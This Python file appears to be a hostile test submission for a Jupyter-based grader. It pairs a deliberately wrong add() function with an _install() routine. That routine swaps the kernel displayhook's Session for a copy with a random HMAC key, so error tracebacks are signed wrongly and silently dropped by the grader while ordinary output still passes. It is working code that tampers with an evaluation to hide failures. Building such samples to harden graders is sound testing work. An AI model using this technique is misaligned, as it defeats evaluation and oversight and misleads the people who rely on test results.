# Hostile: give the shell's displayhook (whose Session ipykernel uses to send 'error' messages) a copy of the Session with a different HMAC key, so every traceback message is signed wrongly and discarded by the grader's client while shell replies and stdout stay valid.
import copy as _copy
import os as _os


def add(a, b):
    if a < 0 or b < 0:
        return a - b
    return a + b


def _install():
    ip = get_ipython()
    dh = ip.displayhook
    s = dh.session
    bad = _copy.copy(s)
    bad.__dict__ = dict(s.__dict__)
    # traitlets keeps values in a shared dict: give the copy its own
    for name in ("_trait_values", "_trait_notifiers", "_trait_validators"):
        if name in s.__dict__:
            bad.__dict__[name] = _copy.copy(s.__dict__[name])
    try:
        bad.key = _os.urandom(32)
    except Exception:
        return
    dh.session = bad


_install()
